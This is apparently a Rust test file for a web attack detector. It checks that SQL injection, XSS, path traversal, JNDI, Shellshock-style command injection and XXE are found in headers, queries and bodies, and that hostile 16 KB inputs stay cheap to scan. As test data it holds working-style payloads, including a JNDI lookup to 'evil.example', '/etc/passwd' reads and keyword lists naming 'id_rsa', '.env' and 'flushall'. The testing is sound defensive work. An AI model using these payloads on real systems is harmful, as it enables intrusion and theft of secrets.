use super::*;
use api_sessions_extract::testing::FakeExchange;
use api_sessions_values::limits::MAX_FORMS;
use proptest::prelude::*;

#[test]
fn types_have_names_and_unknown_ones_are_told_which() {
    for kind in AttackKind::ALL {
        assert_eq!(kind.as_str().parse(), Ok(kind));
    }
    let error = "sqlinjection".parse::<AttackKind>().unwrap_err().to_string();
    assert!(error.contains("\"sqlinjection\"") && error.contains("\"sqli\", \"xss\""), "{error}");
    assert_eq!(AttackKinds::all().iter().count(), AttackKind::ALL.len());
}

#[test]
fn nothing_is_looked_for_behind_the_last_finding() {
    let exchange = FakeExchange::get("/?a=<script>alert(1)</script>");
    let wanted = AttackKind::Xss.into();
    assert_eq!(detect(&exchange, wanted, &mut Workspace::default()), wanted);
}

#[test]
fn authorization_and_structured_headers_are_left_alone() {
    let exchange = FakeExchange::get("/")
        .header("Authorization", "Bearer ' OR 1=1 --")
        .header("Sec-CH-UA", "\"Chromium\";v=\"126\" <script>");
    assert!(detect(&exchange, AttackKinds::all(), &mut Workspace::default()).is_empty());
}

#[test]
fn a_finding_says_where_its_match_stands() {
    let exchange = FakeExchange::get("/?page=1&q=%3Cscript%3Ealert(1)%3C/script%3E")
        .header("Cookie", "theme=dark; v=..%2f..%2f..%2f..%2fetc%2fpasswd");
    let mut workspace = Workspace::default();
    let found = detect(&exchange, AttackKinds::all(), &mut workspace);
    let findings = workspace.findings();
    assert_eq!(findings.len(), found.iter().count());
    let of = |kind| findings.iter().find(|finding| finding.kind == kind).unwrap();
    let xss = of(AttackKind::Xss);
    assert_eq!(
        (xss.source, xss.name.as_slice(), xss.in_name),
        (InputKind::Query, &b"q"[..], false)
    );
    assert!(xss.text[xss.matched.clone()].starts_with(b"<script>"));
    let path = of(AttackKind::PathTraversal);
    assert_eq!((path.source.as_str(), path.name.as_slice()), ("cookie", &b"v"[..]));
    assert!(path.index > xss.index);

    // The next request clears the findings.
    detect(&FakeExchange::get("/"), AttackKinds::all(), &mut workspace);
    assert!(workspace.findings().is_empty());
}

#[test]
fn a_header_that_held_nothing_is_not_looked_at_again() {
    let host = |value: &str| FakeExchange::get("/").header("Host", value);
    let mut workspace = Workspace::default();
    let mut steps = |value: &str, wanted: AttackKinds| {
        let found = detect(&host(value), wanted, &mut workspace);
        (!found.is_empty(), workspace.steps() > 0)
    };
    let all = AttackKinds::all();
    assert_eq!(steps("127.0.0.1:8080", AttackKind::Xss.into()), (false, true));
    assert_eq!(steps("127.0.0.1:8080", all), (false, true), "for the others it was not looked at");
    assert_eq!(steps("127.0.0.1:8080", all), (false, false));
    let attack = "a:80\"><script>alert(1)</script>";
    for _ in 0..2 {
        assert_eq!(steps(attack, all), (true, true), "what held something is looked at each time");
    }
    let other = FakeExchange::get("/").header("X-Value", "127.0.0.1:8080");
    let mut named = Workspace::default();
    for exchange in [host("127.0.0.1:8080"), other] {
        detect(&exchange, all, &mut named);
        assert!(named.steps() > 0, "under each name");
    }
    for port in 9000..9016 {
        assert_eq!(steps(&format!("127.0.0.1:{port}"), all), (false, true));
    }
    assert_eq!(steps("127.0.0.1:8080", all), (false, true), "the oldest was forgotten");
}

#[test]
fn attacks_in_headers_of_the_protocol_were_not_looked_at() {
    let types = |name: &str, value: &str| {
        let exchange = FakeExchange::get("/").header(name, value);
        detect(&exchange, AttackKinds::all(), &mut Workspace::default())
    };
    for name in ["Accept", "Accept-Language", "Cache-Control", "Content-Type", "If-None-Match"] {
        for (value, kind) in [
            ("text/html;q=${jndi:ldap://evil.example/a}", AttackKind::JndiInjection),
            ("../../../../../etc/passwd", AttackKind::PathTraversal),
            ("x<script>alert(1)</script>", AttackKind::Xss),
            ("en' OR '1'='1", AttackKind::Sqli),
            ("() { :; }; /bin/id", AttackKind::CommandInjection),
            ("$(id)", AttackKind::CommandInjection),
        ] {
            assert!(types(name, value).has(kind), "{name}: {value}");
        }
    }
    for (name, value) in [
        ("Accept", "text/html,application/xhtml+xml;q=0.9,image/avif,*/*;q=0.8,application/x;v=b3"),
        ("Accept", "application/json; profile='https://example.com/{a}'"),
        ("Accept-Language", "de-CH,de;q=0.9,en;q=0.8,*;q=0.5"),
        ("Cache-Control", "no-cache, max-age=0, stale-while-revalidate=60"),
        ("Content-Type", "multipart/form-data; boundary='----=_Part_{12}_3'"),
        ("If-None-Match", "W/\"5e-17a'b{c}\", \"(a)\""),
        ("sec-ch-ua", "\"Chromium\";v=\"130\", \"Not(A:Brand\";v=\"99\", \"?Not;A)Brand\";v=\"8\""),
        ("Authorization", "Bearer x<script>alert(1)</script>"),
    ] {
        assert!(types(name, value).is_empty(), "{name}: {value}");
    }
}

/// Values of 16 KB made only to be expensive.
fn hostile() -> impl Iterator<Item = Vec<u8>> {
    const UNITS: &[&str] = &[
        "'",
        "\"'",
        "' or ",
        "1 or 1=",
        "(",
        ")(",
        ")(a=",
        "(&(",
        "((select ",
        "union select ",
        "/*",
        "/**/",
        "--",
        ";",
        ";ls ",
        "|id",
        "`",
        "$(",
        "${",
        "${${",
        "${a:",
        "}",
        "{{",
        "{",
        "{%",
        "#{",
        "<",
        "<a ",
        "<a b=",
        "<a on",
        "<script",
        "on",
        " onx=",
        "onload=",
        "javascript:",
        "../",
        "..\\",
        "./",
        "/",
        "\\",
        "/etc/",
        "/etc/passwd",
        "=/etc/passwd",
        "\n",
        "\r\n",
        "\na ",
        "\nto:",
        "\nget ",
        "$",
        "$ne",
        "{$ne:",
        "[$ne]",
        "db.",
        "db.a.",
        "this.",
        "||",
        "&&",
        "&",
        "&#",
        "&#x3c;",
        "&lt",
        "%",
        "%25",
        "%2525",
        "\\u00",
        "\\u0041",
        "+AD",
        "+ADw-",
        "0x2f",
        "\u{ff07}",
        "\u{e9}",
        "'+'",
        "a'+'b",
        "a<b>c",
        "<!--",
        "<!--#",
        "<!doctype ",
        "<!entity ",
        "<xsl:",
        "eval(",
        "alert(",
        "system(",
        "chr(",
        "expression(",
        "select ",
        "a,",
        "a b ",
        "1-1+",
        ":",
        "http:",
        "a",
        "A",
        " ",
        "\0",
        "<?php",
        "java.lang.",
        "()",
        "() {",
        "case when ",
        "if(",
        "select char(1)+",
        "http://a?b=http://127.0.0.1:",
        "://",
        "=://",
        "@{[",
        "['alert'",
        "\"system\"[0](",
        "0[(",
        "or doc(",
        "or (not(",
        "'while(",
        "';return ",
        ";sleep(9",
        "a:1:{;r:1",
        "\";b:1;",
        "\n*1\n$",
        "\na-b:",
        "\nset a 1",
        "$(a)",
        "\"prototype\"",
        "\t",
        "or",
        "x'or",
        "union",
        "a@b\n",
        "bcc:",
        "(a=*)",
        "*",
    ];
    UNITS.iter().map(|unit| unit.bytes().cycle().take(16 * 1024).collect())
}

#[test]
fn steps_are_bounded_by_the_length_of_a_value() {
    use api_sessions_values::{FREE_STEPS, STEPS_PER_BYTE};
    for (value, content_type) in hostile().flat_map(|value| {
        [
            ("text/plain", ""),
            ("application/json", "{\"a\":\""),
            ("application/x-www-form-urlencoded", "a="),
        ]
        .map(|(kind, head)| ([head.as_bytes(), &value].concat(), kind))
    }) {
        let exchange = FakeExchange::get("/").body(content_type, &value);
        let mut workspace = Workspace::default();
        detect(&exchange, AttackKinds::all(), &mut workspace);
        // A value may be passed twice, and each of its forms is read separately.
        let most = 2 * MAX_FORMS * (value.len() * STEPS_PER_BYTE + FREE_STEPS);
        assert!(
            workspace.steps() <= most,
            "{} steps for {} bytes of {:?}",
            workspace.steps(),
            value.len(),
            String::from_utf8_lossy(&value[..24])
        );
    }
}

#[test]
fn padding_hides_nothing() {
    for padding in ["a", "word ", "0", "\u{e9}"] {
        let text = padding.repeat(60_000 / padding.len()) + "\"><script>alert(1)</script>";
        for body in [
            FakeExchange::get("/").body("application/json", format!("{{\"a\":{text:?}}}")),
            FakeExchange::get("/").body("application/x-www-form-urlencoded", format!("a={text}")),
            FakeExchange::get("/").body("text/plain", &text),
        ] {
            let found = detect(&body, AttackKind::Xss.into(), &mut Workspace::default());
            assert!(found.has(AttackKind::Xss), "{padding:?}");
        }
    }
}

#[test]
fn a_body_without_a_type_is_read_by_its_first_byte() {
    for (body, kind) in [
        ("{\"a\":\"1' or '1'='1\"}", AttackKind::Sqli),
        ("a=1&b=%3Cscript%3Ealert(1)%3C/script%3E", AttackKind::Xss),
        ("<r><a>&lt;img src=x onerror=alert(1)&gt;</a></r>", AttackKind::Xss),
        ("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]><a>&b;</a>", AttackKind::Xxe),
        ("1' union select null, version() --", AttackKind::Sqli),
    ] {
        let exchange = FakeExchange::get("/").body("", body);
        let found = detect(&exchange, AttackKinds::all(), &mut Workspace::default());
        assert!(found.has(kind), "{body}");
    }
}

#[test]
fn a_match_names_its_member_or_element() {
    let mut workspace = Workspace::default();
    for (kind, body, name) in [
        ("application/json", "{\"x\":{\"note\":\"<script>alert(1)</script>\"}}", "note"),
        ("text/xml", "<r><note>&lt;script>alert(1)&lt;/script></note></r>", "note"),
        ("application/x-www-form-urlencoded", "x=1&note=<script>alert(1)</script>", "note"),
    ] {
        let exchange = FakeExchange::get("/").body(kind, body);
        assert!(detect(&exchange, AttackKind::Xss.into(), &mut workspace).has(AttackKind::Xss));
        assert_eq!(workspace.findings()[0].name, name.as_bytes(), "{kind}");
    }
}

#[test]
fn words_and_numbers_used_up_the_values_that_are_looked_at() {
    let mut body = "{\"a\":\"word\",".repeat(2000);
    body.push_str("\"q\":\"1' OR '1'='1\"}");
    let mut workspace = Workspace::default();
    let exchange = FakeExchange::get("/").body("application/json", body);
    let found = detect(&exchange, AttackKinds::all(), &mut workspace);
    assert!(found.has(AttackKind::Sqli));
    assert_eq!(workspace.left(), Left::default());
    let many = format!("[{}]", "\"two (words)\",".repeat(MAX_FIELDS + 1));
    let exchange = FakeExchange::get("/").body("application/json", many);
    detect(&exchange, AttackKinds::all(), &mut workspace);
    assert_eq!(workspace.left(), Left { values: true, ..Left::default() });
}

/// Whether all detectors on all forms find the same as those that the filters select.
fn is_same_without_filters(exchange: &FakeExchange) -> bool {
    let mut workspace = Workspace::default();
    let with = look(exchange, AttackKinds::all(), &mut workspace, true);
    let again = look(exchange, AttackKinds::all(), &mut workspace, true);
    let without = look(exchange, AttackKinds::all(), &mut workspace, false);
    let is_same = with == without && again == with;
    if !is_same {
        println!("{with:?} and {without:?} in {exchange:?}");
    }
    is_same
}

/// A value in each place.
fn places(value: &str) -> [FakeExchange; 9] {
    let text = value.replace(['\\', '"'], " ");
    [
        FakeExchange::get(&format!("/a/{value}")),
        FakeExchange::get(&format!("/a?b={value}")),
        FakeExchange::get(&format!("/a?{value}=b")),
        FakeExchange::get("/").header("Cookie", format!("a={value}")),
        FakeExchange::get("/").header("User-Agent", value),
        FakeExchange::get("/").header("Referer", format!("https://a.example/b?c={value}")),
        FakeExchange::get("/").header("X-Value", value),
        FakeExchange::post("/").body("application/json", format!("{{\"a\":\"{text}\"}}")),
        FakeExchange::post("/").body("", value),
    ]
}

#[test]
fn no_filter_hides_what_a_detector_finds() {
    let mut differ = 0;
    for line in
        [include_str!("../tests/corpus/attacks.txt"), include_str!("../tests/corpus/benign.txt")]
            .iter()
            .flat_map(|corpus| corpus.lines())
    {
        let value = line.rsplit_once("  ").map_or(line, |(_, value)| value);
        let value = value.splitn(3, ' ').last().unwrap_or_default();
        differ += places(value).iter().filter(|one| !is_same_without_filters(one)).count();
    }
    assert_eq!(differ, 0);
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    /// The same for random values: words of the rules with little between them.
    #[test]
    fn no_filter_hides_what_stands_in_any_value(
        value in proptest::collection::vec(prop_oneof![
            3 => proptest::sample::select(WORDS).prop_map(str::to_owned),
            1 => "[ -~]{1,3}",
            1 => "[a-z0-9]{1,12}",
        ], 1..6),
    ) {
        for exchange in places(&value.concat()) {
            prop_assert!(is_same_without_filters(&exchange));
        }
    }
}

const WORDS: &[&str] = &[
    " ",
    " ",
    "-",
    "--",
    ".",
    "..",
    "/",
    "+",
    ",",
    "0x",
    "1",
    "1 or ",
    "true",
    "union",
    " select ",
    "null",
    "order by 9",
    "whoami",
    "sleep 5",
    "net user",
    "which ls",
    "ls -la",
    "java.lang.runtime",
    "java.net.URL",
    "jdk.x.y",
    "gASVIAAAAAAAAACMBXBvc2l4",
    "a:1:{",
    "b:1;",
    "\"system\"(",
    "@{[",
    "while(1)",
    "localhost/",
    "/srv/a%00",
    "//?/c:/",
    "['alert'](",
    "keys *",
    "*1\r\n$4\r\n",
    "oast.pro",
    "nodejs.",
    "process.env",
    "..2f..",
    "%2e",
    "%252f",
    "/.git",
    "etc",
    "/etc/passwd",
    "/.env",
    "id_rsa",
    "c3lzdGVtKCdpZCcpOw",
    "PHNjcmlwdD4",
    "sqlmap",
    "acl whoami",
    "hget a ",
    "setex a 1 b",
    "lrange a 0 1",
    "flushall",
    "^",
    "wh^oami",
    "config get dir",
    "Mozilla/5.0 (X11; rv:1.0)",
    "http:",
    "javascript:alert",
    "-moz-binding",
    "_",
    "__proto__",
    "$ne",
    "[$ne]",
    "%24ne",
];
